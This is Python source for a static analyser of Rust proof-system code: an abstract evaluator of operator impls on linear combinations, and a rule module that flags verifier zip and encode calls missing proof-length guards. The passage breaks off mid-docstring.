        return UNKNOWN      # constants are not part of the domain

    # ------------------------------------------------------------------ bodies
    def assign(self, env, dst, v):
        if v is None:
            return False
        if dst["p"]:
            # write through a projection: only `*coef = ..` of the visited element of self.terms is understood
            base = env.get(dst["l"])
            if base == ("mutcoef",) and all(e == "*" for e in dst["p"]):
                self.effect("UPDATE", v)
                return False
            if base is not None and base[0] in ("self", "selfterms", "mutelem", "mutcoef"):
                self.escapes.append("assignment through a projection of self")
            return False
        old = env.get(dst["l"])
        if old is None:
            env[dst["l"]] = v
            return True
        if old == v or old == UNKNOWN:
            return False
        env[dst["l"]] = UNKNOWN
        return True

    def stmt(self, b, env, st):
        rv = st["rv"]
        k = rv["k"]
        v = None
        if k in ("ref", "rawptr"):
            v = self.read(env, rv["pl"])
        elif k in ("use", "cast", "repeat"):
            v = self.operand(env, rv["ops"][0]) if rv.get("ops") else UNKNOWN
        elif k == "agg":
            ops = rv.get("ops", [])
            if rv.get("closure"):
                vals = [self.operand(env, o) for o in ops]
                if any(x is None for x in vals):
                    return False
                v = ("closure", rv["closure"], vals)
            elif rv.get("ak") == "tuple":
                vals = [self.operand(env, o) for o in ops]
                if any(x is None for x in vals):
                    return False
                v = ("tuple", vals)
                if len(vals) == 2 and vals[0][0] in ("sc", "mutcoef") and vals[1][0] == "lab":
                    v = ("elem", vals[0], vals[1])
            elif (rv.get("adt") or "").endswith("LCTerm"):
                v = ("lab", "One") if rv.get("variant") == "One" else UNKNOWN
            elif (rv.get("adt") or "") == "std::option::Option" and rv.get("variant") == "Some" and ops:
                x = self.operand(env, ops[0])
                if x is None:
                    return False
                v = ("opt", x)
            else:
                v = UNKNOWN
        elif k == "discr":
            v = UNKNOWN
        else:
            v = UNKNOWN
        return self.assign(env, st["dst"], v)

    # ------------------------------------------------------------------ calls
    def call(self, b, env, i, t):
        name = (t.get("callee") or "").rsplit("::", 1)[-1]
        args = [self.operand(env, a) for a in t["args"]]
        if any(a is None for a in args):
            return False
        res = self.apply(b, name, t, args)
        return self.assign(env, t["dst"], res)

    def apply_closure(self, clo, params):
        if clo == UNKNOWN or clo[0] != "closure":
            return UNKNOWN
        kb = self.f.bodies.get(clo[1])
        if kb is None:
            return UNKNOWN
        vals = [("closure-env",)] + list(params)
        # captured variables live in locals of their own (facts._split_upvars)
        self.depth += 1
        env_extra = {u: clo[2][k] for k, u in kb.upvar_locals.items() if k < len(clo[2])}
        self.depth -= 1
        return self.run_with_env(kb, vals, env_extra)

    def run_with_env(self, b, args, extra):
        self.depth += 1
        if self.depth > 8:
            self.depth -= 1
            raise Undecided("call depth")
        env = dict(extra)
        for i, v in enumerate(args):
            env[i + 1] = v
        reach = b.reachable()
        start = len(self.effects)
        for _round in range(12):
            changed = False
            del self.effects[start:]
            for i, blk in enumerate(b.blocks):
                if i not in reach or blk["cleanup"]:
                    continue
                if self.depth == 1:
                    self.top_block = i
                for st in blk["stmts"]:
                    changed |= self.stmt(b, env, st)
                t = blk["term"]
                if t["k"] == "call":
                    changed |= self.call(b, env, i, t)
            if not changed:
                break
        if self.depth == 1:
            self.top_env = env
        self.depth -= 1
        return env.get(0)

    def effect(self, kind, v):
        self.effects.append((kind, v, self.top_block))

    def apply(self, b, name, t, args):
        a0 = args[0] if args else None
        # arithmetic
        if name == "neg" and len(args) == 1:
            return sc_neg(a0)
        if name == "mul" and len(args) == 2:
            return sc_mul(a0, args[1])
        # folding: the element of self.terms that carries the same label as the visited element of other
        if name in ("eq", "ne") and len(args) == 2 and {a0, args[1]} == {("lab", "own"), ("lab", "t")}:
            return ("pred", "samelabel" if name == "eq" else "otherlabel")
        if name in ("find", "find_map") and len(args) == 2 and a0 is not None and a0[0] == "iter" and a0[1] == "selfmut":
            r = self.apply_closure(args[1], [a0[2]])
            if r == ("pred", "samelabel"):
                return ("opt", ("foundelem",))
            # a search by anything else hands out a mutable element of self.terms we know nothing about
            self.escapes.append("%s at %s" % (t.get("callee"), t.get("span")))
            return UNKNOWN
        if name in ("add_assign", "sub_assign") and len(args) == 2 and a0 == ("foundcoef",):
            x = args[1] if name == "add_assign" else sc_neg(args[1])
            # adding x to the coefficient of the term labelled t means the same as appending (x, t)
            self.effect("APPEND", ("elem", x, ("lab", "t")))
            return ("unit",)
        if name == "mul_assign" and len(args) == 2 and a0 == ("mutcoef",):
            self.effect("UPDATE", sc_mul(("sc", 1, ("c",)), args[1]))
            return ("unit",)
        if name in ("is_one", "is_zero") and len(args) == 1 and a0 is not None and a0[0] == "sc":
            return ("pred", name, a0)
        # iterators over the term lists
        if name in ("iter", "into_iter", "into_par_iter", "par_iter"):
            if a0 == ("otherterms",):
                return ("iter", "other", IDENT)
            if a0 is not None and a0[0] == "iter":
                return a0
            if a0 == ("selfterms",) and name == "iter":
                return UNKNOWN
        if name in ("iter_mut", "par_iter_mut") and a0 == ("selfterms",):
            return ("iter", "selfmut", ("mutelem",))
        if name == "into_iter" and a0 == ("selfterms",):
            return ("iter", "selfmut", ("mutelem",))
        if name == "map" and len(args) == 2 and a0 is not None and a0[0] == "iter" and a0[1] == "other":
            out = self.apply_closure(args[1], [a0[2]])
            return ("iter", "other", out if out is not None else UNKNOWN)
        if name == "next" and a0 is not None and a0[0] == "iter":
            return ("opt", a0[2])
        if name == "for_each" and len(args) == 2 and a0 is not None and a0[0] == "iter":
            self.apply_closure(args[1], [a0[2]])
            return ("unit",)
        # growing self.terms
        if name == "extend" and len(args) == 2 and a0 == ("selfterms",):
            src = args[1]
            if src == ("otherterms",):
                src = ("iter", "other", IDENT)
            if src[0] == "iter" and src[1] == "other":
                self.effect("APPEND", src[2])
            else:
                self.effect("APPEND", UNKNOWN)
            return ("unit",)
        if name == "extend_from_slice" and len(args) == 2 and a0 == ("selfterms",):
            self.effect("APPEND", IDENT if args[1] == ("otherterms",) else UNKNOWN)
            return ("unit",)
        if name == "push" and len(args) == 2 and a0 == ("selfterms",):
            el = args[1]
            if el[0] == "tuple" and len(el[1]) == 2:
                el = ("elem", el[1][0], el[1][1])
            per_elem = mentions(el, "c") or mentions(el, "t")
            self.effect("APPEND" if per_elem else "PUSH", el)
            return ("unit",)
        if name in CAPACITY_ONLY and a0 == ("selfterms",):
            return ("unit",)      # capacity management: the terms themselves are untouched
        if name in TRANSPARENT and args:
            return a0
        # local functions: another operator impl, LinearCombination::push, helpers
        targets = [x for x in self.f.call_targets(t, None) if x in self.f.bodies]
        if len(targets) == 1:
            cb = self.f.bodies[targets[0]]
            if cb.kind == "Closure":
                # Fn::call(closure, (args,))
                if a0 is not None and a0[0] == "closure" and len(args) == 2 and args[1][0] == "tuple":
                    return self.apply_closure(a0, args[1][1])
                return UNKNOWN
            return self.run_with_env(cb, args, {})
        if name in ("call", "call_mut", "call_once") and a0 is not None and a0[0] == "closure" and len(args) == 2 and args[1][0] == "tuple":
            return self.apply_closure(a0, args[1][1])
        # not understood: harmless unless self can be mutated through it
        for a in args:
            if a is not None and a[0] in ("self", "selfterms", "mutelem", "mutcoef") or (a is not None and a[0] == "iter" and a[1] == "selfmut"):
                self.escapes.append("%s at %s" % (t.get("callee"), t.get("span")))
        return UNKNOWN


def analyse(facts, body, rhs_kind):
    """effects of the operator impl `body` on self.terms, per path class:
    returns (general, special, escapes): `general` = effects on the paths without an assumption; `special` =
    [(assumption, effects)] for a fast path taken when the scalar operand is one / zero (`if k.is_one() {..}`)."""
    ev = Eval(facts)
    if rhs_kind == "pair":
        rhs = ("tuple", [("sc", 1, ("k",)), ("other",)])
    elif rhs_kind == "lc":
        rhs = ("other",)
    else:
        rhs = ("sc", 1, ("k",))
    ev.run_with_env(body, [("self",), rhs], {})
    env = ev.top_env or {}
    K = ("sc", 1, ("k",))
    arms = []     # (assumption, true-arm entry block, false-arm entry block)
    for i, blk in enumerate(body.blocks):
        t = blk["term"]
        if t["k"] == "switch" and t["op"]["k"] in ("copy", "move") and not t["op"]["pl"]["p"]:
            v = env.get(t["op"]["pl"]["l"])
            if v is not None and v[0] == "pred" and v[2] == K:
                false_t = [tb for (val, tb) in t.get("targets", []) if val == 0]
                true_t = [t.get("otherwise")] if false_t else []
                if false_t and true_t[0] is not None and true_t[0] != false_t[0]:
                    arms.append(("one" if v[1] == "is_one" else "zero", true_t[0], false_t[0]))
    effects = []
    for (k, v, blk) in ev.effects:
        # the same effect in two mutually exclusive places (the arms of a `match`) is one effect
        dup = [e for e in effects if e[0] == k and e[1] == v and e[2] is not None and blk is not None
               and not body.dominates(e[2], blk) and not body.dominates(blk, e[2])]
        if not dup:
            effects.append((k, v, blk))

    def under(entry, blk):
        return blk is not None and body.dominates(entry, blk)
    general = [(k, v) for (k, v, blk) in effects if not any(under(tb, blk) and not under(fb, blk) for (_, tb, fb) in arms)]
    special = []
    for n, (assumption, tb, fb) in enumerate(arms):
        eff = []
        for (k, v, blk) in effects:
            if under(fb, blk) and not under(tb, blk):
                continue            # only reached when the assumption is false
            if any(m != n and under(tb2, blk) and not under(fb2, blk) for m, (_, tb2, fb2) in enumerate(arms)):
                continue            # only reached under another (exclusive) assumption
            eff.append((k, v))
        special.append((assumption, eff))
    return general, special, ev.escapes


def specialise(effects, assumption):
    """the effects under `k == 1` / `k == 0`, as a sorted list: k := 1 drops the atom; k := 0 makes an element whose
    coefficient mentions k a zero term, which adds nothing to the meaning of the combination."""
    out = []
    for (kind, v) in effects:
        sc = v if kind == "UPDATE" else (v[1] if v != UNKNOWN and v[0] == "elem" else UNKNOWN)
        if sc == UNKNOWN or sc[0] != "sc":
            out.append((kind, UNKNOWN))
            continue
        if "k" in sc[2]:
            if assumption == "zero" and kind != "UPDATE":
                continue
            sc = ("sc", sc[1], tuple(a for a in sc[2] if a != "k")) if assumption == "one" else sc
        out.append((kind, sc if kind == "UPDATE" else ("elem", sc, v[2])))
    return sorted(out, key=repr)


def fmt_scalar(s):
    if s == UNKNOWN or s[0] != "sc":
        return "undecided"
    return ("-" if s[1] < 0 else "") + ("*".join(s[2]) or "1")


def fmt_effect(e):
    kind, v = e[0], e[1]
    if kind == "UPDATE":
        return "every coefficient := %s" % fmt_scalar(v)
    if v == UNKNOWN or v[0] != "elem":
        return "%s(undecided)" % kind.lower()
    lab = v[2][1] if v[2] != UNKNOWN and v[2][0] == "lab" else "undecided"
    return "%s (%s, %s)%s" % ("append" if kind != "UPDATE" else "", fmt_scalar(v[1]), lab,
                              " for every (c, t) of other" if kind == "APPEND" else "")
