"""R4 LEN-GUARD.

(a) every `zip` in a verifier's scope that pairs a container rooted in the proof parameter with one that is
    not must be accompanied by a length guard: a branch condition (switch / assert operand) that is data-derived
    both from a shape observation (`len`, slice length, `is_empty`) of the proof-side container and from a shape
    observation of the other side, located so that it dominates the zip (same body) or the call that leads to it.
(b) every proof-rooted vector handed to `LinearEncode::encode` must be length-checked: a branch condition derived
    from its length either dominating the call in the verifier, or inside every local `encode` impl.

`zip` stops at its shorter side, so a short proof list leaves claims unverified yet accepted.
"""
from collections import defaultdict, deque

from ..engine import short, where_of
from ..flow import ALIAS as ALIAS_KIND
from ..flow import ALIAS, COMPUTE, CTRL, DATA, MOVE, OUTCOME, SHAPE, last_seg

# `BatchLCProof.evals` travels with the proof but is not the proof list: its entries are re-attached to their
# keys and every key is looked up later with a refusal, so a short `evals` cannot leave a claim unverified.
NOT_PROOF_LIST = {("data_structures::BatchLCProof", "evals")}

ZIP_CALLEES = {"std::iter::Iterator::zip", "core::iter::Iterator::zip", "rayon::iter::IndexedParallelIterator::zip",
               "std::iter::zip", "core::iter::zip"}
# foreign calls that hand back (a view of / an iterator over) the same container
CONTAINER_PRESERVING = {"iter", "into_iter", "iter_mut", "deref", "deref_mut", "as_slice", "as_ref", "as_mut",
                        "borrow", "rev", "zip", "enumerate", "by_ref", "par_iter", "into_par_iter", "cloned",
                        "copied", "clone", "to_vec", "values", "keys", "unwrap", "expect", "as_deref", "into_values",
                        "branch", "from_residual", "into", "borrow_mut", "chain"}


def _rev(g):
    if getattr(g, "_rev", None) is None:
        r = defaultdict(list)
        for a, es in g.fwd.items():
            for e in es:
                r[e.dst].append((a, e))
        g._rev = r
    return g._rev


def _callee_name(g, e):
    if e.site is None:
        return None
    t = g.facts.bodies[e.site[0]].blocks[e.site[1]]["term"]
    if t["k"] != "call":
        return None
    return last_seg(t.get("callee") or "")


def _is_result_edge(g, e):
    """a foreign-call edge that ends in the call's own destination (not in a mutable argument)."""
    if e.site is None:
        return False
    b = g.facts.bodies[e.site[0]]
    t = b.blocks[e.site[1]]["term"]
    return t["k"] == "call" and e.dst == (e.site[0], t["dst"]["l"])


def _preserving(g, e, forward, extra=()):
    if e.kind != DATA:
        return False
    if e.op in (MOVE, "field", "hof"):
        return True
    if e.op == "foreign" and _is_result_edge(g, e):
        nm = _callee_name(g, e)
        if forward and nm in ("zip", "chain"):
            return False
        return nm in CONTAINER_PRESERVING or nm in extra
    return False


def _through_field(e, fields):
    return any(len(ce) > 3 and (ce[2], ce[3]) in fields for ce in (e.chain or ()))


def alias_roots(g, node, not_through=(), extra=()):
    """backward closure over container-preserving edges: every node the container at `node` is (a view of).
    Edges that project one of the fields in `not_through` are not followed (that field is another component).
    Calls are matched: having walked back into a callee through its return value, the walk leaves it only
    through the parameters of that same call site."""
    rev = _rev(g)
    start = (node, ())
    seen_states = {start}
    seen = {node}
    dq = deque([start])
    while dq:
        n, stack = dq.popleft()
        for (a, e) in rev.get(n, ()):
            if isinstance(a, tuple) and a[0] in ("CALLRES",):
                continue
            if not_through and _through_field(e, not_through):
                continue
            if not _preserving(g, e, False, extra):
                continue
            ns = stack
            if e.cs is not None:
                kind, site, body = e.cs
                env = isinstance(site, tuple) and site and site[0] == "env"
                if kind == "out":
                    ns = (stack + ((site, body),))[-4:]
                elif stack:
                    tsite, tbody = stack[-1]
                    if tbody == body:
                        tenv = isinstance(tsite, tuple) and tsite and tsite[0] == "env"
                        if tsite == site or env or tenv:
                            ns = stack[:-1]
                        else:
                            continue
            st = (a, ns)
            if st in seen_states:
                continue
            seen_states.add(st)
            seen.add(a)
            dq.append(st)
    return seen


def views(g, roots):
    """forward closure from the roots: every node that is a view of (an iterator over / a reference to) them."""
    seen = set(roots)
    dq = deque(roots)
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.dst in seen or e.dst == OUTCOME:
                continue
            if _preserving(g, e, True):
                seen.add(e.dst)
                dq.append(e.dst)
    return seen


def shape_seeds(g, aliases):
    """nodes holding a shape observation (len / slice length / is_empty) of one of the alias nodes."""
    out = set()
    for a in aliases:
        for e in g.fwd.get(a, ()):
            if e.op == SHAPE and e.kind == DATA and e.dst != OUTCOME:
                out.add(e.dst)
    return out


def data_closure(g, seeds, limit=4000):
    """forward closure over DATA/ALIAS edges (untyped): everything computed from the seeds."""
    seen = set(seeds)
    dq = deque(seeds)
    while dq and len(seen) < limit:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind == CTRL or e.dst == OUTCOME or e.dst in seen:
                continue
            if isinstance(e.dst, tuple) and len(e.dst) == 2 and e.dst[1] == -1:
                continue
            seen.add(e.dst)
            dq.append(e.dst)
    return seen


def branch_conditions(g):
    """(body, block, [condition nodes]) for every switch / assert in scope."""
    f = g.facts
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        reach = b.reachable()
        for i, blk in enumerate(b.blocks):
            if i not in reach or blk["cleanup"]:
                continue
            t = blk["term"]
            if t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move"):
                out.append((bid, i, (bid, t["op"]["pl"]["l"])))
    return out


def _reaches_body(f, g, src_body, dst_body, memo):
    key = (src_body, dst_body)
    if key in memo:
        return memo[key]
    seen = set()
    st = [src_body]
    ok = False
    while st:
        x = st.pop()
        if x == dst_body:
            ok = True
            break
        if x in seen:
            continue
        seen.add(x)
        st.extend(c for c in f.local_callees(x, g.ctx_adt) if c in g.scope)
    memo[key] = ok
    return ok


def guard_dominates(g, guard_site, use_site, memo):
    """guard (body, block) dominates the use (body, block), directly or through the call leading to it."""
    f = g.facts
    gb, gblk = guard_site
    ub, ublk = use_site
    if gb == ub:
        return f.bodies[gb].dominates(gblk, ublk)
    # closures are part of their parent body for this purpose
    b = f.bodies[gb]
    found = False
    for i, t in b.calls():
        tg = set(f.call_targets(t, g.ctx_adt))
        sc = t.get("self_closure")
        if sc:
            tg.add(sc)
        for a in t["args"]:
            if a["k"] in ("copy", "move"):
                c = b.locals[a["pl"]["l"]].get("closure")
                if c:
                    tg.add(c)
        if any(x in g.scope and (x == ub or _reaches_body(f, g, x, ub, memo)) for x in tg):
            found = True
            if not b.dominates(gblk, i):
                return False
    if found:
        return True
    # closure created in the guard's body
    for blk_i, blk in enumerate(b.blocks):
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "agg" and rv.get("closure") in g.scope:
                c = rv["closure"]
                if c == ub or _reaches_body(f, g, c, ub, memo):
                    return b.dominates(gblk, blk_i)
    return False


def proof_rooted(g, anchor, aliases):
    idx = anchor.roles.get("proof")
    if idx is None:
        return False
    return (anchor.body.id, idx) in aliases


def _filled_per_proof(g, root, pviews):
    """the local container `root` is only ever grown inside loops that iterate over (a view of) the proof list."""
    from .rng import cyclic_blocks
    from .refusal import _scc_of
    bid, loc = root
    b = g.facts.bodies.get(bid)
    if b is None or loc < 0:
        return False
    refs = {loc}
    for blk in b.blocks:
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "ref" and rv.get("mut") and rv["pl"]["l"] == loc and not st["dst"]["p"]:
                refs.add(st["dst"]["l"])
    cyc = cyclic_blocks(b)
    grows = [i for i, t in b.calls() if (t.get("callee") or "").rsplit("::", 1)[-1] in ("push", "extend", "insert", "push_back")
             and t["args"] and t["args"][0]["k"] in ("copy", "move") and t["args"][0]["pl"]["l"] in refs]
    if not grows:
        return False
    for i in grows:
        if i not in cyc:
            continue          # a fixed number of initial elements
        scc = _scc_of(b, i)
        driven = False
        for x in scc:
            t = b.blocks[x]["term"]
            if t["k"] == "call" and (t.get("callee") or "").rsplit("::", 1)[-1] == "next" and t["args"] and \
                    t["args"][0]["k"] in ("copy", "move") and (bid, t["args"][0]["pl"]["l"]) in pviews:
                driven = True
        if not driven:
            return False
    return any(i in cyc for i in grows)


def run_zip(rep, ctx, anchor, rule="R4a"):
    g = ctx.graph(anchor)
    f = ctx.facts
    conds = None
    memo = {}
    n = 0
    from_proof = None
    pviews = set()
    per_body = defaultdict(int)
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "") not in ZIP_CALLEES or len(t["args"]) != 2:
                continue
            sides = []
            for a in t["args"]:
                if a["k"] not in ("copy", "move"):
                    sides.append(None)
                    continue
                sides.append(alias_roots(g, (bid, a["pl"]["l"]), NOT_PROOF_LIST))
            if None in sides:
                continue
            pr = [proof_rooted(g, anchor, s) for s in sides]
            if pr[0] == pr[1]:
                continue
            # the other side must stand for the claims: a container that was itself built from the proof list (one
            # randomizer pushed per proof, say) cannot be shorter than the claims in any way the proof list is not
            if from_proof is None:
                idx_p = anchor.roles.get("proof")
                from ..flow import ALIAS
                from_proof = {st[0] for st in g.reach([(anchor.body.id, idx_p)], typed=False, kinds=(DATA, ALIAS))} \
                    if idx_p is not None else set()
                pviews = views(g, {(anchor.body.id, idx_p)}) if idx_p is not None else set()
            other = sides[1] if pr[0] else sides[0]
            locals_only = [r for r in other if isinstance(r, tuple) and len(r) == 2 and isinstance(r[1], int)]
            if locals_only and all(r in from_proof or _filled_per_proof(g, r, pviews) for r in locals_only):
                continue
            n += 1
            k = per_body[bid]
            per_body[bid] += 1
            P = sides[0] if pr[0] else sides[1]
            C = sides[1] if pr[0] else sides[0]
            lp = data_closure(g, shape_seeds(g, views(g, P)))
            lc = data_closure(g, shape_seeds(g, views(g, C)))
            if conds is None:
                conds = branch_conditions(g)
            guards = [(gb, gi) for (gb, gi, c) in conds if c in lp and c in lc]
            good = [gs for gs in guards if guard_dominates(g, gs, (bid, i), memo)]
            key = "%s:zip@%s#%d" % (anchor.key, short(bid), k)
            if good:
                rep.add(rule, key, True, "zip of the proof list with the claims at %s is guarded by the length comparison at %s" % (
                    t["span"], where_of(f, *good[0])), t["span"])
            else:
                why = "no branch compares the two lengths" if not guards else \
                    "the length comparison at %s does not dominate it" % where_of(f, *guards[0])
                rep.add(rule, key, False, "zip at %s pairs the proof list with the claims but %s: a shorter proof list "
                        "silently leaves claims unverified" % (t["span"], why), t["span"])
    rep.count("proof_vs_claims_zips", n)
    return n


ENCODE = "linear_codes::LinearEncode::encode"


def run_encode(rep, ctx, anchor, rule="R4b"):
    """proof-rooted message vectors handed to LinearEncode::encode must be length-checked."""
    g = ctx.graph(anchor)
    f = ctx.facts
    memo = {}
    impls = [b.id for b in f.bodies.values() if b.kind != "Closure" and b.name == "encode"
             and b.impl_trait == "linear_codes::LinearEncode"]
    conds = branch_conditions(g)
    enc_scope = f.closure(impls, g.ctx_adt)
    n = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        k = 0
        for i, t in b.calls():
            if (t.get("callee") or "") != ENCODE or t.get("resolved"):
                continue
            a = t["args"][0]
            if a["k"] not in ("copy", "move"):
                continue
            al = alias_roots(g, (bid, a["pl"]["l"]))
            rooted = proof_rooted(g, anchor, al) or any(isinstance(x, tuple) and x[0] == "FIELD" and
                                                        any((x[1], x[2]) == (p[0], p[1]) for p in anchor.info["proof"]) for x in al)
            if not rooted:
                continue
            n += 1
            # a check at the call site observes the length outside the encoders
            lp = data_closure(g, {n for n in shape_seeds(g, views(g, al)) if n[0] not in enc_scope})
            site_guards = [(gb, gi) for (gb, gi, c) in conds if c in lp and gb == bid and f.bodies[gb].dominates(gi, i)]
            # guards inside the impls: condition derived from the length of the impl's message parameter
            impl_ok = []
            for im in impls:
                if im not in g.scope:
                    impl_ok.append((im, False))
                    continue
                ib = f.bodies[im]
                seeds = shape_seeds(g, {n for n in views(g, {(im, 1)}) if isinstance(n, tuple) and n[0] in g.facts.bodies and
                                        (n[0] == im or g.facts.bodies[n[0]].root == im)})
                cl = data_closure(g, seeds)
                has = any(gb == im or f.bodies[gb].root == im for (gb, gi, c) in conds if c in cl)
                impl_ok.append((im, has))
            key = "%s:encode-input@%s#%d" % (anchor.key, short(bid), k)
            k += 1
            if site_guards:
                rep.add(rule, key, True, "vector from the proof passed to encode at %s is length-checked at %s" % (
                    t["span"], where_of(f, *site_guards[0])), t["span"])
            elif impl_ok and all(h for _, h in impl_ok):
                rep.add(rule, key, True, "every encode impl checks the length of its message", t["span"])
            else:
                missing = [short(im) for im, h in impl_ok if not h]
                rep.add(rule, key, False, "vector taken from the proof is passed to encode at %s without a length check "
                        "before the call, and %s accept(s) any length: a stretched vector is encoded and compared as if "
                        "it had n_cols entries" % (t["span"], ", ".join(missing) or "the encoders"), t["span"])
    rep.count("encode_calls_on_proof_vectors", n)
    return n


def _fwd_aliases(g, node):
    """forward closure over container-preserving edges inside one body."""
    seen = {node}
    dq = deque([node])
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind == CTRL or e.dst in seen or e.dst == OUTCOME:
                continue
            if not (isinstance(e.dst, tuple) and e.dst[0] == node[0]):
                continue
            ok = e.op in (MOVE,) or (e.op == "foreign" and _callee_name(g, e) in CONTAINER_PRESERVING)
            if ok:
                seen.add(e.dst)
                dq.append(e.dst)
    return seen


# ---------------------------------------------------------------------------------------------------------
# R4c: a for loop driven by a zip of a proof *vector field* with something that is not proof-derived
LENGTH_PRESERVING = ("map", "collect", "cloned", "copied", "rev", "enumerate", "to_vec", "iter", "into_iter", "as_slice")
INDEX_CALLEES = ("std::ops::Index::index", "std::ops::IndexMut::index_mut", "core::ops::Index::index")


def growable_proof_fields(facts, proof_adts):
    out = set()
    for adt in proof_adts:
        d = facts.adts.get(adt)
        if not d or d["kind"] != "Struct":
            continue
        for fd in d["variants"][0]["fields"]:
            if fd["ty"].startswith(("std::vec::Vec<", "std::option::Option<std::vec::Vec<")):
                out.add(("FIELD", adt, fd["name"]))
    return out


def drives_for_loop(g, zip_site):
    """is the zip's result (possibly through enumerate / into_iter) the receiver of an `Iterator::next` in a loop?"""
    from .rng import cyclic_blocks
    f = g.facts
    bid, i = zip_site
    b = f.bodies[bid]
    t = b.blocks[i]["term"]
    zd = (bid, t["dst"]["l"])
    cyc = cyclic_blocks(b)
    for j, tt in b.calls():
        if j not in cyc:
            continue
        if not (tt.get("callee") or "").endswith("Iterator::next"):
            continue
        a = tt["args"][0]
        if a["k"] not in ("copy", "move"):
            continue
        if zd in alias_roots(g, (bid, a["pl"]["l"])):
            return True
    return False


def run_loopzip(rep, ctx, anchor, proof_adts, rule="R4c"):
    g = ctx.graph(anchor)
    f = ctx.facts
    pfields = growable_proof_fields(f, proof_adts)
    if not pfields:
        return 0
    n = 0
    conds = None
    memo = {}
    per_body = defaultdict(int)
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "") not in ZIP_CALLEES or len(t["args"]) != 2:
                continue
            sides = []
            for a in t["args"]:
                sides.append(alias_roots(g, (bid, a["pl"]["l"]), NOT_PROOF_LIST, LENGTH_PRESERVING) if a["k"] in ("copy", "move") else set())
            hit = [s & pfields for s in sides]
            if bool(hit[0]) == bool(hit[1]):
                continue
            if not drives_for_loop(g, (bid, i)):
                continue
            n += 1
            k = per_body[bid]
            per_body[bid] += 1
            P = sides[0] if hit[0] else sides[1]
            C = sides[1] if hit[0] else sides[0]
            fld = sorted(hit[0] or hit[1])[0]
            name = "%s.%s" % (fld[1].rsplit("::", 1)[-1], fld[2])
            key = "%s:loop-zip@%s#%d:%s" % (anchor.key, short(bid), k, name)
            # guard 1: a dominating comparison of the two lengths
            lp = data_closure(g, shape_seeds(g, views(g, P)))
            lc = data_closure(g, shape_seeds(g, views(g, C)))
            if conds is None:
                conds = branch_conditions(g)
            good = [gs for gs in [(gb, gi) for (gb, gi, c) in conds if c in lp and c in lc] if guard_dominates(g, gs, (bid, i), memo)]
            if good:
                rep.add(rule, key, True, "for loop over zip(%s, ..) at %s is guarded by the length comparison at %s" % (
                    name, t["span"], where_of(f, *good[0])), t["span"])
                continue
            # guard 2: the same proof vector is also accessed by position (bounds-checked) with a computed index
            idx_sites = []
            for b2 in sorted(g.scope):
                body2 = f.bodies[b2]
                for j, tt in body2.calls():
                    if (tt.get("callee") or "") not in INDEX_CALLEES or len(tt["args"]) != 2:
                        continue
                    ca, ia = tt["args"]
                    if ca["k"] not in ("copy", "move") or ia["k"] not in ("copy", "move"):
                        continue
                    roots = alias_roots(g, (b2, ca["pl"]["l"]), NOT_PROOF_LIST, LENGTH_PRESERVING)
                    if fld in roots:
                        idx_sites.append(tt["span"])
            if not idx_sites:
                # the built-in form: `slice[i]` is a place projection guarded by a bounds-check assert
                for b2 in sorted(g.scope):
                    body2 = f.bodies[b2]
                    for (sp, pl) in _indexed_places(body2):
                        if fld in alias_roots(g, (b2, pl["l"]), NOT_PROOF_LIST, LENGTH_PRESERVING):
                            idx_sites.append(sp)
                            break
                    if idx_sites:
                        break
            if not idx_sites:
                pins = [gs for gs in pinned_length_guards(g, anchor, field_lengths(g, fld), conds) if guard_dominates(g, gs, (bid, i), memo)]
                if pins:
                    rep.add(rule, key, True, "for loop over zip(%s, ..) at %s: the vector's length is pinned by the equality test "
                            "at %s against a value that does not come from the proof" % (name, t["span"], where_of(f, *pins[0])), t["span"])
                    continue
            if idx_sites:
                rep.add(rule, key, True, "for loop over zip(%s, ..) at %s: the vector is also accessed by position at %s "
                        "(a short vector aborts there)" % (name, t["span"], idx_sites[0]), t["span"])
            else:
                rep.add(rule, key, False, "for loop at %s runs over zip(%s, ..): the proof decides how many of the expected "
                        "positions are checked - no length comparison dominates it and the vector is never accessed by "
                        "position" % (t["span"], name), t["span"])
    return n


# ---------------------------------------------------------------------------------------------------------
# R4s: positions shifted by a filter before a positional pairing
# (`flatten` over Options is left to the absence form of R3: after the Nones have been refused it drops nothing)
SHIFTING = ("filter", "filter_map", "flat_map", "skip_while", "take_while", "dedup", "dedup_by", "dedup_by_key")
CHAIN = ("iter", "into_iter", "iter_mut", "map", "enumerate", "rev", "cloned", "copied", "zip", "peekable", "by_ref", "inspect",
         "skip", "take", "chain", "deref", "as_ref", "as_slice", "par_iter", "into_par_iter", "borrow") + SHIFTING
GENERATORS = ("ops::Range", "iter::Repeat", "iter::Successors", "iter::FromFn", "iter::RepeatWith", "iter::Once", "RangeFrom", "RangeInclusive")


def _chain_back(b, l, depth=0):
    """(adaptor names, root local) walking back from iterator local `l` along receivers inside body b."""
    names = []
    seen = set()
    while l not in seen and depth < 40:
        seen.add(l)
        depth += 1
        ds = []
        for blk in b.blocks:
            if blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                if st["dst"]["l"] == l and not st["dst"]["p"]:
                    ds.append(("s", st["rv"]))
            t = blk["term"]
            if t["k"] == "call" and t["dst"]["l"] == l and not t["dst"]["p"]:
                ds.append(("c", t))
        if len(ds) != 1:
            break
        kind, d = ds[0]
        if kind == "s":
            k = d.get("k")
            pl = d.get("pl") if k in ("ref", "rawptr") else (d["ops"][0].get("pl") if k in ("use", "cast") and d.get("ops") and d["ops"][0]["k"] in ("copy", "move") else None)
            if pl is None:
                break
            l = pl["l"]
            continue
        nm = (d.get("callee") or "").rsplit("::", 1)[-1]
        if nm in CHAIN and d["args"] and d["args"][0]["k"] in ("copy", "move"):
            names.append(nm)
            l = d["args"][0]["pl"]["l"]
            continue
        break
    return names, l


def run_shifted_pairing(rep, ctx, anchor, rule="R4s"):
    """`zip` pairs by position. A side whose lazy adaptor chain drops elements (`filter`, `filter_map`, `flatten`, ..)
    no longer has element i at position i; zipped with a *stored* sequence that was not filtered along with it (a vector
